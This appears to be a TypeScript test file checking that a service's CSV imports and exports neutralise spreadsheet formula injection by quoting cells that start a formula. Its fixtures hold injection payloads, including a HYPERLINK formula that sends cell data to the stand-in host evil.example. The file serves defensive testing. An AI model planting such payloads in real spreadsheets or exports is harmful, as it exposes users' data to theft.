import { randomUUID } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import { importColumns, parseCsv, requestOf } from '../../domain/bdc-import';
import { EngineNumber, writeCsv } from '../../domain/csv';
import { parisCivilDate } from '../../domain/calendar';
import { bdcRequest } from '../support/bdc-fixtures';
import { consoleSession, type ConsoleSession } from '../support/console-session';
import { people } from '../support/people';
import { eventually } from '../support/eventually';
import { harnessPerFile } from '../support/harness';

// Issue 19: a CSV the engine writes never hands a spreadsheet a formula. Every cell that starts with
// = + - @, a tab or a carriage return comes back with a leading ' — in the refused rows of an import
// (what a user sent) and in every export (whatever reached the database).
const h = harnessPerFile({ api: true });

const FORMULAS = [
  '=2*3',
  '=HYPERLINK("http://evil.example/?"&A1,"clic")',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\tTAB',
  '\rCR',
];
const rowsOf = (csv: string, delimiter: string) =>
  parse(csv, { delimiter, bom: true, relax_column_count: true }) as string[][];
/** every cell a spreadsheet would evaluate; none may be left */
const formulaCells = (rows: string[][]) => rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell));

test('the one writer: text that starts a formula gets a quote, numbers the engine formats stay numbers', () => {
  const csv = writeCsv(
    ['text', 'engine number', 'js number'],
    [
      ...FORMULAS.map((f) => [f, new EngineNumber('-157,00'), -157]),
      ['-157,00', new EngineNumber('1752.00'), 0],
      ['a = b', new EngineNumber('0'), 3],
    ],
    { french: true },
  );
  const rows = rowsOf(csv, ';').slice(1);
  expect(rows.map((r) => r[0])).toEqual([...FORMULAS.map((f) => `'${f}`), "'-157,00", 'a = b']);
  expect(rows.map((r) => r.slice(1))).toEqual([
    ...FORMULAS.map(() => ['-157,00', '-157']),
    ['1752.00', '0'],
    ['0', '3'],
  ]);
  // an engine number is digits: whatever reaches it otherwise is refused, never written
  expect(() => new EngineNumber('-1+1')).toThrow();
  expect(() => new EngineNumber('=1')).toThrow();
});

test('a refused-rows file fixed and sent back reads as the user typed it', () => {
  const csv = writeCsv(
    [...importColumns],
    [['-editeur', 'REF', 'test-ms1', 'sol', '010003820', '010003838', '2024-01-10', 'true']],
    { french: true },
  );
  expect(requestOf(parseCsv(csv)[1]!)).toMatchObject({ editeurId: '-editeur', reference: 'REF' });
});

let console: ConsoleSession;
beforeAll(async () => {
  console = await consoleSession(h.api.url, people.operator);
});

test('the refused rows of an import give back every formula neutralised, and only then', async () => {
  const fresh = bdcRequest({ campaignId: 'test-ms1', orderDate: parisCivilDate(new Date(await h.now())) });
  // each row is refused (an éditeur id, an OG that are formulas); the reference, the dates carry more
  const line = (cells: string[]) => cells.map((c) => `"${c.replace(/"/g, '""')}"`).join(';');
  const rows = FORMULAS.map((f, i) => [
    f,
    i % 2 ? f : `REF-${i}`,
    'test-ms1',
    fresh.solutionId,
    f,
    fresh.essms.join('|'),
    fresh.orderDate,
    'true',
  ]);
  const file = [importColumns.join(';'), ...rows.map(line)].join('\r\n');
  const started = await console.post(
    '/console/imports/bdc',
    { bdcs: new Blob([file], { type: 'text/csv' }) },
    '/console/imports',
  );
  expect(started.status).toBe(303);
  const job = started.headers.get('location')!;
  const csv = await eventually(
    async () => {
      const r = await console.get(`${job}/lignes-refusees.csv`);
      const text = await r.text();
      return r.status === 200 && text.length > 10 && text;
    },
    { what: 'the refused rows' },
  );
  const [header, ...refused] = rowsOf(csv, ';');
  expect(header).toEqual([...importColumns, 'line', 'reasons']);
  expect(refused).toHaveLength(FORMULAS.length);
  expect(formulaCells(refused)).toEqual([]);
  expect(refused.map((r) => r[0])).toEqual(FORMULAS.map((f) => `'${f}`));
  // what needs no neutralising is left alone
  expect(refused[0]![1]).toBe('REF-0');
  expect(refused[0]![6]).toBe(fresh.orderDate);
});

test('every export neutralises formula text, and keeps the amounts the engine formats as numbers', async () => {
  const { bdcId } = await h.register();
  await h.waitForStatus(bdcId, 'awaiting_va');
  const cancelled = await h.api.call('POST', `/bdcs/${encodeURIComponent(bdcId)}/cancellation`, {
    token: h.api.tokens.operator,
    body: { eventId: randomUUID(), reason: 'le client a renoncé' },
  });
  expect(cancelled.status).toBe(200);
  await h.waitForStatus(bdcId, 'reimbursement_due');
  // No route today lets a caller put text at the start of an exported cell (identifiers follow a
  // grammar; reasons come after the engine's own words): the database is made to hold some, as a
  // future field or a hand-made fix would, and every export must still be safe to open.
  const sql = (await h.engine()).sql;
  await sql.query('UPDATE bdcs SET editeur_id = $2 WHERE bdc_id = $1', [bdcId, '=HYPERLINK("http://evil.example")']);
  await sql.query('UPDATE reimbursement_demands SET reason = $2 WHERE bdc_id = $1', [bdcId, '@SUM(1+1)*cmd']);
  await sql.query('UPDATE bdc_audit SET actor_name = $2 WHERE bdc_id = $1', [
    bdcId,
    '+HYPERLINK("http://evil.example")',
  ]);

  const exports: [string, string, () => Promise<string>][] = [
    [
      'summary.csv (API)',
      ',',
      async () => (await h.api.call('GET', '/reports/summary.csv', { token: h.api.tokens.operator })).body,
    ],
    [
      'payment-orders.csv (API)',
      ',',
      async () => (await h.api.call('GET', '/ledger/payment-orders.csv', { token: h.api.tokens.operator })).body,
    ],
    ['bdc.csv (console)', ';', async () => (await console.get('/console/exports/bdc.csv')).text()],
    ['synthese.csv (console)', ';', async () => (await console.get('/console/exports/synthese.csv')).text()],
    [
      'ordres-de-paiement.csv (console)',
      ';',
      async () => (await console.get('/console/exports/ordres-de-paiement.csv')).text(),
    ],
    [
      'remboursements.csv (console)',
      ';',
      async () => (await console.get('/console/exports/remboursements.csv')).text(),
    ],
    ['piste-d-audit.csv (console)', ';', async () => (await console.get('/console/exports/piste-d-audit.csv')).text()],
  ];
  for (const [name, delimiter, read] of exports) {
    const rows = rowsOf(await read(), delimiter);
    const planted = rows.flat().filter((cell) => cell.includes('HYPERLINK') || cell.includes('@SUM'));
    expect({ name, planted: planted.length > 0, formulas: formulaCells(rows) }).toEqual({
      name,
      planted: true,
      formulas: [],
    });
  }
  // the amounts stay numbers a spreadsheet sums: "1752,00", never "'1752,00"
  const demands = rowsOf(await (await console.get('/console/exports/remboursements.csv')).text(), ';');
  expect(demands.find((r) => r[3] === bdcId)).toEqual([
    'demande (remboursement de l’avance)',
    expect.any(String),
    expect.any(String),
    bdcId,
    `'=HYPERLINK("http://evil.example")`,
    '1752,00',
    expect.any(String),
    `'@SUM(1+1)*cmd`,
  ]);
});
